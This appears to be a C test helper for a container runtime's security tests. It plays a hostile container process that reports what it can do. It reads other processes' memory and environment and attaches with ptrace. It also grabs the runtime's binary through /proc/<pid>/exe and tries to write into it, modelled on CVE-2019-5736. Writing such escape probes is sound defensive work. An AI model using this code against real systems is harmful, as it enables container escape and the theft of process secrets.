/* What a hostile container process tries, for tests/hostile/runtime-*.t:
 * built static by the tests and copied into their images. Every mode
 * prints what it managed to do, one line a finding; the test decides
 * what is allowed.
 *
 *   attack exe PATH              open PATH (a /proc/<pid>/exe) as O_PATH,
 *                                for reading, for writing; its memory
 *                                and environ; ptrace attach to <pid>
 *   attack exe-watch SECS DEV INO
 *                                for SECS seconds grab every other
 *                                process's /proc/<pid>/exe (O_PATH, as in
 *                                CVE-2019-5736), report any that is the
 *                                file DEV:INO (rt's binary), and try to
 *                                write through each one afterwards
 *   attack uid                   "uid euid suid"
 *   attack listen NAME           abstract unix socket @NAME; print
 *                                "listening", then "accepted" per client
 *   attack connect NAME          "connected" or "refused <errno>"
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE 1
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

static void try_open(const char *path, int flags, const char *what)
{
	int fd = open(path, flags | O_CLOEXEC);

	if (fd < 0) {
		printf("%s: denied (%s)\n", what, strerror(errno));
		return;
	}
	if ((flags & O_ACCMODE) == O_WRONLY && write(fd, "", 0) < 0)
		printf("%s: opened, write refused (%s)\n", what, strerror(errno));
	else
		printf("%s: OPENED\n", what);
	close(fd);
}

static int exe(const char *path)
{
	char dir[256], p[300];
	long pid;

	try_open(path, O_PATH, "exe o_path");
	try_open(path, O_RDONLY, "exe read");
	try_open(path, O_WRONLY, "exe write");
	snprintf(dir, sizeof dir, "%s", path);
	if (strrchr(dir, '/'))
		*strrchr(dir, '/') = '\0';
	snprintf(p, sizeof p, "%s/mem", dir);
	try_open(p, O_RDONLY, "mem read");
	snprintf(p, sizeof p, "%s/environ", dir);
	try_open(p, O_RDONLY, "environ read");
	pid = strtol(dir + strlen("/proc/"), NULL, 10);
	if (pid > 0) {
		if (ptrace(PTRACE_ATTACH, (pid_t)pid, NULL, NULL) == 0) {
			printf("ptrace: ATTACHED\n");
			waitpid((pid_t)pid, NULL, __WALL);
			ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
		} else {
			printf("ptrace: denied (%s)\n", strerror(errno));
		}
	}
	return 0;
}

static int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int exe_watch(long secs, unsigned long long dev, unsigned long long ino)
{
	int held[MAX_HELD], nheld = 0, i;
	unsigned long attempts = 0, opened = 0, reached = 0, wrote = 0;
	int64_t end = now_ms() + (int64_t)secs * 1000;
	pid_t self = getpid();

	while (now_ms() < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		if (!d)
			return 1;
		while ((de = readdir(d)) != NULL) {
			char path[64];
			struct stat st;
			long pid = strtol(de->d_name, NULL, 10);
			int fd;

			if (pid <= 0 || pid == self)
				continue;
			snprintf(path, sizeof path, "/proc/%ld/exe", pid);
			attempts++;
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			opened++;
			if (fstat(fd, &st) == 0 && (unsigned long long)st.st_dev == dev &&
			    (unsigned long long)st.st_ino == ino) {
				int w = open(path, O_WRONLY | O_CLOEXEC);

				reached++;
				printf("REACHED rt's binary through %s\n", path);
				if (w >= 0) {
					printf("WROTE-OPEN %s\n", path);
					close(w);
				}
				if (nheld < MAX_HELD) {
					held[nheld++] = fd;
					continue;
				}
			}
			close(fd);
		}
		closedir(d);
	}
	/* What CVE-2019-5736 did next: reopen the held fd for writing once
	 * the runtime's process is gone and its binary no longer busy. */
	for (i = 0; i < nheld; i++) {
		char path[64];
		int w;

		snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
		w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w >= 0 && write(w, "pwned\n", 6) == 6)
			wrote++;
		if (w >= 0)
			close(w);
	}
	printf("done attempts=%lu opened=%lu reached=%lu wrote=%lu\n", attempts, opened, reached, wrote);
	return 0;
}

static int abstract_addr(const char *name, struct sockaddr_un *a, socklen_t *len)
{
	size_t n = strlen(name);

	if (n + 1 > sizeof a->sun_path)
		return -1;
	memset(a, 0, sizeof *a);
	a->sun_family = AF_UNIX;
	memcpy(a->sun_path + 1, name, n);
	*len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
	return 0;
}

static int sock_listen(const char *name)
{
	struct sockaddr_un a;
	socklen_t len;
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), c;

	if (s < 0 || abstract_addr(name, &a, &len) < 0 ||
	    bind(s, (struct sockaddr *)&a, len) < 0 || listen(s, 16) < 0) {
		printf("listen: %s\n", strerror(errno));
		return 1;
	}
	printf("listening\n");
	fflush(stdout);
	while ((c = accept(s, NULL, NULL)) >= 0) {
		printf("accepted\n");
		fflush(stdout);
		close(c);
	}
	return 0;
}

static int sock_connect(const char *name)
{
	struct sockaddr_un a;
	socklen_t len;
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (s < 0 || abstract_addr(name, &a, &len) < 0)
		return 1;
	if (connect(s, (struct sockaddr *)&a, len) == 0)
		printf("connected\n");
	else
		printf("refused %s\n", errno == ECONNREFUSED ? "ECONNREFUSED" : strerror(errno));
	close(s);
	return 0;
}

int main(int argc, char **argv)
{
	int r = 2;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "exe"))
		r = exe(argv[2]);
	else if (argc == 5 && !strcmp(argv[1], "exe-watch"))
		r = exe_watch(strtol(argv[2], NULL, 10), strtoull(argv[3], NULL, 10),
			      strtoull(argv[4], NULL, 10));
	else if (argc == 2 && !strcmp(argv[1], "uid"))
		r = printf("%u %u\n", (unsigned)getuid(), (unsigned)geteuid()) < 0;
	else if (argc == 3 && !strcmp(argv[1], "listen"))
		r = sock_listen(argv[2]);
	else if (argc == 3 && !strcmp(argv[1], "connect"))
		r = sock_connect(argv[2]);
	else
		fprintf(stderr, "usage: attack exe PATH | exe-watch SECS DEV INO | uid | listen NAME | connect NAME\n");
	return r;
}
